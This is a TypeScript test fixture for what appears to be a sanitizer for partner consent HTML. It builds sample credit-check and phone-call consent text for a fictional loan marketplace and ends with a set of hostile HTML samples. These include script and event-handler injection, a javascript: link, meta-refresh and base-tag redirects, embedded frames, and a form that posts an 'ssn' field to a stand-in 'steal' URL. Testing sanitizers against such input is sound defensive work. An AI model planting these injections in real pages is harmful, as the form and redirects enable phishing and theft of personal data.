const OPERATOR = 'Fairlight Marketplace';
const PARTNER = 'Juniper Money';

/** Both blocks end in line breaks, the second in CRLF, as real ones may. */
export function consentText(version: number) {
  return { 'personal.consent': mainConsent(version), 'personal.tcpa.consent': phoneConsent(version) };
}

function mainConsent(version: number): string {
  return `<p>By checking the box and continuing from ${PARTNER} to ${OPERATOR} (&ldquo;Fairlight&rdquo;, &ldquo;we&rdquo;), you agree to the following on your own behalf:</p>
<ul>
  <li>You have read and accept Fairlight&rsquo;s <a href="https://example.com/fairlight/terms" title="Terms of use of ${OPERATOR}" target="_blank">Terms of Use</a> and <a href="https://example.com/fairlight/privacy" title="Privacy notice of ${OPERATOR}" target="_blank">Privacy Notice</a>, and you agree to receive notices electronically under the <a href="https://example.com/fairlight/e-consent" title="Consent to electronic communications" target="_blank">E&#8209;Consent Agreement</a>.</li>
  <li>You give <strong>written instructions</strong> under the Fair Credit Reporting Act for Fairlight, and the lenders it works with, to obtain your consumer report from one or more credit bureaus, so as to check who you are and which offers you may prequalify for. <em>This is a soft inquiry &mdash; it doesn’t affect your credit score.</em></li>
  <li>${PARTNER} may share what you entered with Fairlight, and Fairlight may tell ${PARTNER} whether your request was received, whether you saw offers, and whether a loan was funded.</li>
  <li>A Fairlight account will be created for the email address you gave, and your request will be saved in it.</li>
</ul>
<p>Prequalified rates are estimates &amp; not a commitment to lend. If you go on with a lender, that lender may make a hard inquiry, which can affect your score. Fairlight is paid by lenders when a loan closes; see <a href="https://example.com/fairlight/how-we-are-paid" title="How ${OPERATOR} is paid" target="_blank">how we’re paid</a>. A summary of your rights is in the <a href="https://example.com/fairlight/credit-rights" title="Your rights about credit reports" target="_blank">credit rights summary</a>.</p>
<p>Partner text for ${PARTNER}, version ${version}.</p>
`;
}

function phoneConsent(version: number): string {
  return `<p style="margin: 0 0 .75em; line-height: 1.5">By checking this separate box you authorize ${OPERATOR}, and up to three lenders you choose, to call and text you at the number you gave about your loan request, including with automated dialing and pre&#8209;recorded messages, even if the number is on a do&#8209;not&#8209;call list.</p>
<ul style="padding-left: 1.25em">
  <li><strong>This is not a condition of any loan or service.</strong> You can see your offers without it: leave the box empty &mdash; or call <span style="white-space: nowrap">1&#8209;555&#8209;0100&#8209;199</span> instead.</li>
  <li>Message &amp; data rates may apply, and message frequency varies. Reply STOP to end messages, HELP for help; see <a href="https://example.com/fairlight/messages" title="Terms for calls and text messages" target="_blank">how calls &amp; texts work</a>.</li>
</ul>
<p style="color: #5b5566; font-size: .875em">Asked on behalf of ${PARTNER}’s customers, version ${version}.</p>\r\n`;
}

const LINK = '<p>See the <a href="https://example.com/fairlight/terms" target="_blank">terms</a>.</p>';

export const HOSTILE_TEXTS = {
  script: `${LINK}<script>document.title = 'taken'; parent.document.title = 'taken';</script>\n`,
  handler: `${LINK}<img src="x" alt="" onerror="document.title = 'taken'">\n`,
  form: `${LINK}<form action="https://example.net/steal" method="post"><input name="ssn"><button>Agree</button></form>\n`,
  frame: `${LINK}<iframe src="https://example.net/"></iframe><object data="https://example.net/"></object>\n`,
  refresh: `<meta http-equiv="refresh" content="0;url=https://example.net/">${LINK}\n`,
  link: `${LINK}<p><a href="javascript:document.title='taken'">Agree</a></p>\n`,
  style: `<style>body { position: fixed; inset: 0; background: url(https://example.net/seen) }</style>${LINK}\n`,
  base: `<base href="https://example.net/">${LINK}\n`,
  unclosed: `${LINK}<p title="<div></p></body></html><!-- ${LINK}\n`,
  entities: '<p>&lt;script&gt; \u202Ereversed\u202C \u0000 &#x200B;\uFEFF</p>\\n',
};

export const HOSTILE_KINDS = Object.keys(HOSTILE_TEXTS) as (keyof typeof HOSTILE_TEXTS)[];

/** Without `kind`, all texts in a row. */
export function hostileText(kind?: keyof typeof HOSTILE_TEXTS): string {
  return kind ? HOSTILE_TEXTS[kind] : HOSTILE_KINDS.map((kind) => HOSTILE_TEXTS[kind]).join('');
}
